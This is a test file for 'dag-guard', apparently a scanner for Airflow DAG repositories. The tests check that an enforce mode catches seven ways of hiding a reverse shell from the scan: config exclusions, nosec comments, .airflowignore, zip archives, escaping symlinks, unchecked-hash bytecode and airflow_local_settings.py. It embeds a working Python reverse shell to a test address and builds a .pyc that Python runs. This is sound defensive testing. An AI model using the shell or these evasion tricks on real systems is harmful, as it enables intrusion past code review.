/**
 * `check --enforce` against the seven ways issue 11's committer got a reverse shell past the check, each in a real git
 * repository checked the way CI and the gate check it: a fresh `git clone` (symlinks, bytecode and archives come
 * through git as committed), the built CLI, the trusted configuration outside the clone. Each test also pins what
 * the default mode does with the same commit.
 */
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { describe, expect, it } from 'vitest';
import { CLEAN_DAG, cleanEnv, commitAll, git, gitInit, runCli, tmpDir, writeTree, type Run } from './helpers';

/** A reverse shell at parse time: DG608 (critical) and friends. */
const SHELL = `import os
import socket
import subprocess

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.7", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
subprocess.call(["/bin/sh", "-i"])
`;

function json(r: Run): any { // eslint-disable-line @typescript-eslint/no-explicit-any
  try {
    return JSON.parse(r.stdout);
  } catch {
    throw new Error(`not JSON (exit ${r.code}):\n${r.stdout}\n${r.stderr}`);
  }
}

/** The exit code, with the output in the failure message (a failure under load must explain itself). */
function expectExit(r: Run, code: number): void {
  expect(r.code, `exit ${r.code}\nstdout: ${r.stdout}\nstderr: ${r.stderr}`).toBe(code);
}

const rules = (rep: { findings: { ruleId: string; path: string }[] }, p: string): string[] =>
  [...new Set(rep.findings.filter((f) => f.path === p).map((f) => f.ruleId))].sort();

/**
 * Commits `files` (plus `extra(dir)` for links and binaries) to a new repository and returns a fresh clone of it, with
 * a trusted config beside (outside) the clone: `<base>/repo` (the clone) and `<base>/trusted.toml`.
 */
function committed(files: Record<string, string>, extra?: (dir: string) => void, trusted = ''): { clone: string; trusted: string } {
  const base = tmpDir('dg-enforce-');
  const origin = path.join(base, 'origin');
  fs.mkdirSync(origin);
  gitInit(origin);
  writeTree(origin, files);
  extra?.(origin);
  commitAll(origin, 'the change under review');
  const clone = path.join(base, 'repo');
  git(base, 'clone', '-q', origin, clone);
  const trustedPath = path.join(base, 'trusted.toml');
  fs.writeFileSync(trustedPath, trusted);
  return { clone, trusted: trustedPath };
}

function py(code: string, ...args: string[]): string {
  return execFileSync('python3', ['-c', code, ...args], { encoding: 'utf8', env: cleanEnv() });
}

describe('check --enforce: the seven bypasses of issue 11', () => {
  it('(1) an in-tree .dag-guard.toml / pyproject.toml that excludes the payload is ignored and reported', () => {
    for (const [name, content] of [
      ['.dag-guard.toml', 'exclude = ["dags/ops/**"]\n'],
      ['pyproject.toml', '[project]\nname = "dags"\n\n[tool.dag-guard]\nexclude = ["dags/ops/**"]\n'],
    ]) {
      const { clone, trusted } = committed({ [name]: content, 'dags/etl.py': CLEAN_DAG, 'dags/ops/maintenance.py': SHELL });
      // Default mode: the committer's configuration applies (documented; this is what enforce mode is for).
      const plain = runCli(['check', '-f', 'json', '.'], clone);
      expectExit(plain, 0);
      expect(json(plain).summary.skipped.exclude).toBe(1);

      const r = runCli(['check', '--enforce', '-f', 'json', '.'], clone);
      expectExit(r, 1);
      const rep = json(r);
      expect(rules(rep, 'dags/ops/maintenance.py')).toContain('DG608');
      expect(rep.warnings).toContainEqual(expect.objectContaining({ code: 'DG007', path: name, message: expect.stringContaining('configuration file ignored (enforce mode)') }));
      // The text report says why, too.
      const text = runCli(['check', '--enforce', '.'], clone).stdout;
      expect(text).toMatch(/dags\/ops\/maintenance\.py:\d+:\d+: DG608 \[critical\] reverse shell/);
      expect(text).toContain(`${name}:1:1: DG007`);

      // The same file passed as --config is refused: it is inside what is checked.
      const inside = runCli(['check', '--enforce', '--config', name, '.'], clone);
      expectExit(inside, 2);
      expect(inside.stderr).toMatch(new RegExp(`--config ${name.replace('.', '\\.')} is inside the checked tree`));
      expect(inside.stderr).not.toMatch(/\n\s+at /); // no stack trace
      // A trusted --config from outside is used, exclusions included.
      fs.writeFileSync(trusted, 'exclude = ["dags/ops/**"]\n');
      expectExit(runCli(['check', '--enforce', '--config', trusted, '.'], clone), 0);
    }
  });

  it('(1b) a --config anywhere in the git work tree of a checked sub-folder is refused too', () => {
    const { clone } = committed({ 'ci/dag-guard.toml': 'ignore = ["DG5", "DG6"]\n', 'dags/ops.py': SHELL });
    const r = runCli(['check', '--enforce', '--config', 'ci/dag-guard.toml', 'dags'], clone);
    expectExit(r, 2);
    expect(r.stderr).toContain('is inside the checked tree');
    expectExit(runCli(['check', '--config', 'ci/dag-guard.toml', 'dags'], clone), 0); // default mode trusts it
  });

  it('(2) inline `# dag-guard: ignore[...]` and `# nosec` on the shell lines are not honoured unless the trusted config lists the rule as suppressible', () => {
    const src = SHELL.split('\n')
      .map((l, i) => (!l.trim() ? l : i === 8 ? `${l}  # dag-guard: ignore[DG607,DG608] -- ops approved` : `${l}  # nosec`))
      .join('\n');
    const { clone, trusted } = committed({ 'dags/ops.py': src });
    const plain = runCli(['check', '-f', 'json', 'dags'], clone);
    expectExit(plain, 0);
    expect(json(plain).summary.suppressed).toBeGreaterThanOrEqual(2);

    const r = runCli(['check', '--enforce', '-f', 'json', 'dags'], clone);
    expectExit(r, 1);
    const rep = json(r);
    expect(rules(rep, 'dags/ops.py')).toEqual(expect.arrayContaining(['DG501', 'DG601', 'DG607', 'DG608']));
    expect(rep.summary.suppressed).toBe(0);
    const notHonoured = rep.warnings.filter((w: { code: string }) => w.code === 'DG006');
    expect(notHonoured.length).toBeGreaterThanOrEqual(2);
    expect(notHonoured[0].message).toMatch(/suppression not honoured \(enforce mode\): DG\d+ is not in the trusted configuration's `suppressible`/);

    // The trusted configuration decides: listed rules may be suppressed, others still fail.
    fs.writeFileSync(trusted, 'suppressible = ["DG501", "DG601", "DG607"]\n');
    const some = json(runCli(['check', '--enforce', '--config', trusted, '-f', 'json', 'dags'], clone));
    expect(rules(some, 'dags/ops.py')).toEqual(['DG608']);
    fs.writeFileSync(trusted, 'suppressible = ["DG5", "DG6"]\n');
    expectExit(runCli(['check', '--enforce', '--config', trusted, 'dags'], clone), 0);
  });

  it('(3) `.airflowignore` with `*_dag.py` hides nothing from the scan, whatever its syntax', () => {
    const { clone, trusted } = committed({ 'dags/.airflowignore': '*_dag.py\n', 'dags/shell_dag.py': SHELL, 'dags/etl.py': CLEAN_DAG });
    // Default mode (glob syntax): the file matches, is scanned all the same, and is counted as not a DAG entry point.
    const plain = json(runCli(['check', '-f', 'json', 'dags'], clone));
    expect(rules(plain, 'dags/shell_dag.py')).toContain('DG608');
    expect(plain.summary.airflowIgnored).toBe(1);
    // Airflow 2 (regexp syntax): `*_dag.py` is no regexp; Airflow drops it and parses the file; so do we.
    fs.writeFileSync(trusted, 'airflow-version = "2"\n');
    const r = runCli(['check', '--enforce', '--config', trusted, '-f', 'json', 'dags'], clone);
    expectExit(r, 1);
    const rep = json(r);
    expect(rules(rep, 'dags/shell_dag.py')).toContain('DG608');
    expect(rep.summary.airflowIgnored).toBe(0);
    expect(rep.errors).toContainEqual({ path: 'dags/.airflowignore', message: 'invalid regular expression in .airflowignore, ignored: *_dag.py' });
  });

  it('(4) a reverse shell inside packaged.zip is scanned and reported as packaged.zip!member.py; a corrupt zip fails', () => {
    const { clone } = committed({ 'dags/etl.py': CLEAN_DAG }, (dir) => {
      const zip = 'import sys, zipfile\nwith zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED) as z:\n  z.writestr("rev_dag.py", sys.argv[2])';
      py(zip, path.join(dir, 'dags', 'packaged.zip'), SHELL);
      // Airflow takes any file `zipfile.is_zipfile` accepts, whatever its name.
      py(zip, path.join(dir, 'dags', 'notes.dat'), SHELL);
    });
    for (const mode of [[], ['--enforce']]) {
      const r = runCli(['check', ...mode, '-f', 'json', 'dags'], clone);
      expectExit(r, 1);
      const rep = json(r);
      expect(rules(rep, 'dags/packaged.zip!rev_dag.py')).toContain('DG608');
      expect(rules(rep, 'dags/notes.dat!rev_dag.py')).toContain('DG608');
      expect(rep.summary).toMatchObject({ archives: 2, filesScanned: 3 });
    }
    fs.writeFileSync(path.join(clone, 'dags', 'broken.zip'), Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(64, 7)]));
    const bad = runCli(['check', '--enforce', '-f', 'json', 'dags'], clone);
    expectExit(bad, 1);
    expect(json(bad).errors).toContainEqual({ path: 'dags/broken.zip', message: expect.stringMatching(/^cannot read zip archive: .*not scanned/) });
    // A member over the size limit is not read, and says so (exit 1), like a file of its own.
    fs.rmSync(path.join(clone, 'dags', 'broken.zip'));
    const small = path.join(path.dirname(clone), 'small.toml');
    fs.writeFileSync(small, 'max-file-size-kb = 1\n');
    py('import sys, zipfile\nwith zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED) as z:\n  z.writestr("big.py", "x = 1\\n" * 1000)', path.join(clone, 'dags', 'big.zip'));
    const big = runCli(['check', '--enforce', '--config', small, '-f', 'json', 'dags'], clone);
    expectExit(big, 1);
    expect(json(big).errors).toContainEqual({ path: 'dags/big.zip!big.py', message: expect.stringContaining('archive member over the 1 KiB limit') });
  });

  it('(5) a symlink whose real target leaves the tree (through another link) is a critical finding and is never read', () => {
    const { clone } = committed({ 'dags/etl.py': CLEAN_DAG, 'dags/h/.keep': '' }, (dir) => {
      // dags/h/up -> the folder above the repository; dags/h/evil.py -> up/payload/payload.txt: no `..` in the second.
      fs.symlinkSync('../../..', path.join(dir, 'dags', 'h', 'up'));
      fs.symlinkSync('up/payload/payload.txt', path.join(dir, 'dags', 'h', 'evil.py'));
    });
    const outside = path.join(path.dirname(clone), 'payload');
    fs.mkdirSync(outside);
    fs.writeFileSync(path.join(outside, 'payload.txt'), SHELL); // hostile now: any read of it would report DG608
    expect(fs.realpathSync(path.join(clone, 'dags', 'h', 'evil.py'))).toBe(fs.realpathSync(path.join(outside, 'payload.txt')));
    for (const mode of [[], ['--enforce']]) {
      const r = runCli(['check', ...mode, '-f', 'json', 'dags'], clone);
      expectExit(r, 1);
      const rep = json(r);
      expect(rules(rep, 'dags/h/evil.py')).toEqual(['DG706']);
      expect(rules(rep, 'dags/h/up')).toEqual(['DG706']);
      expect(rep.findings.find((f: { path: string }) => f.path === 'dags/h/evil.py').severity).toBe('critical');
      expect(rep.findings.some((f: { ruleId: string }) => f.ruleId === 'DG608')).toBe(false);
    }
  });

  it('(6) an unchecked-hash __pycache__/*.pyc beside a benign .py is critical; Python really runs it', () => {
    const tag = py('import sys; print(sys.implementation.cache_tag)').trim();
    const pyc = `dags/__pycache__/etl.${tag}.pyc`;
    const { clone } = committed({ 'dags/etl.py': 'VALUE = 1\n' }, (dir) => {
      const hostile = path.join(path.dirname(dir), 'hostile.py');
      fs.writeFileSync(hostile, 'open("PWNED", "w").write("ran the bytecode")\nVALUE = 1\n');
      py(
        'import py_compile, sys\npy_compile.compile(sys.argv[1], cfile=sys.argv[2], doraise=True, invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)',
        hostile,
        path.join(dir, pyc),
      );
    });
    // The attack is real on the clone: importing the benign source runs the shipped bytecode.
    const victim = tmpDir('dg-pyc-run-');
    execFileSync('python3', ['-c', `import sys; sys.path.append(${JSON.stringify(path.join(clone, 'dags'))}); import etl`], { cwd: victim, env: cleanEnv() });
    expect(fs.readFileSync(path.join(victim, 'PWNED'), 'utf8')).toBe('ran the bytecode');
    for (const mode of [[], ['--enforce']]) {
      const r = runCli(['check', ...mode, '-f', 'json', 'dags'], clone);
      expectExit(r, 1);
      const f = json(r).findings.find((x: { path: string }) => x.path === pyc);
      expect(f).toMatchObject({ ruleId: 'DG701', severity: 'critical', message: expect.stringContaining('unchecked-hash bytecode beside etl.py') });
    }
  });

  it('(7) airflow_local_settings.py hidden by .airflowignore is critical, and its contents are scanned', () => {
    const { clone } = committed({ 'dags/.airflowignore': 'airflow_local_settings.py\n', 'dags/airflow_local_settings.py': SHELL, 'dags/etl.py': CLEAN_DAG });
    for (const mode of [[], ['--enforce']]) {
      const r = runCli(['check', ...mode, '-f', 'json', 'dags'], clone);
      expectExit(r, 1);
      const rep = json(r);
      expect(rules(rep, 'dags/airflow_local_settings.py')).toEqual(expect.arrayContaining(['DG608', 'DG704']));
      expect(rep.findings.find((f: { ruleId: string }) => f.ruleId === 'DG704').severity).toBe('critical');
      expect(rep.summary.airflowIgnored).toBe(1);
    }
    expect(runCli(['check', '--enforce', 'dags'], clone).stdout).toMatch(/DG704 \[critical\] `airflow_local_settings` in the tree: Airflow's `settings.initialize\(\)`/);
  });
});

describe('check --enforce vs the default mode', () => {
  it('one commit, both modes: what the tree can switch off in default mode it cannot under --enforce', () => {
    const { clone } = committed({
      '.dag-guard.toml': 'exclude = ["dags/vendor/**"]\n',
      'dags/etl.py': CLEAN_DAG,
      'dags/vendor/ops.py': SHELL,
      'dags/quiet.py': 'x = input()\neval(x)  # nosec\n',
      'dags/quiet_noqa.py': 'x = input()\nexec(x)  # noqa: DG301\n',
      'dags/venv/pyvenv.cfg': 'home = /usr\n',
      'dags/venv/lib/hook.py': SHELL,
      'baseline.json': JSON.stringify({ tool: 'dag-guard', version: 1, cwd: '.', findings: [] }),
    });
    const plain = runCli(['check', '-f', 'json', '.'], clone);
    expectExit(plain, 0);
    expect(json(plain).summary.skipped).toEqual({ exclude: 1, include: 0, virtualenv: 1 });

    const r = runCli(['check', '--enforce', '-f', 'json', '.'], clone);
    expectExit(r, 1);
    const rep = json(r);
    expect(rules(rep, 'dags/vendor/ops.py')).toContain('DG608'); // in-tree exclude ignored
    expect(rules(rep, 'dags/venv/lib/hook.py')).toContain('DG608'); // committed virtualenvs are walked
    expect(rules(rep, 'dags/quiet.py')).toEqual(['DG301']); // # nosec not honoured
    expect(rules(rep, 'dags/quiet_noqa.py')).toEqual(['DG301']); // # noqa neither
    expect(rep.summary.enforce).toBe(true);
    expect(rep.warnings.map((w: { code: string }) => w.code).sort()).toEqual(['DG006', 'DG006', 'DG007']);

    // --baseline from inside the tree: accepted by default, refused (exit 2) under --enforce.
    expectExit(runCli(['check', '--baseline', 'baseline.json', '.'], clone), 0);
    const b = runCli(['check', '--enforce', '--baseline', 'baseline.json', '.'], clone);
    expectExit(b, 2);
    expect(b.stderr).toMatch(/^dag-guard: error: --baseline baseline\.json is inside the checked tree/);
    const outside = path.join(path.dirname(clone), 'baseline.json');
    fs.copyFileSync(path.join(clone, 'baseline.json'), outside);
    expectExit(runCli(['check', '--enforce', '--baseline', outside, '.'], clone), 1);
  });

  it('zero files scanned passes by default and fails under --enforce, with a message', () => {
    const { clone } = committed({ 'README.md': '# nothing to see\n' });
    expectExit(runCli(['check', '.'], clone), 0);
    const r = runCli(['check', '--enforce', '.'], clone);
    expectExit(r, 1);
    expect(r.stdout).toContain('no files scanned: enforce mode does not pass a check that read nothing');
    const ex = runCli(['check', '--enforce', '--exclude', '**', '.'], path.dirname(clone));
    expectExit(ex, 1);
  });
});
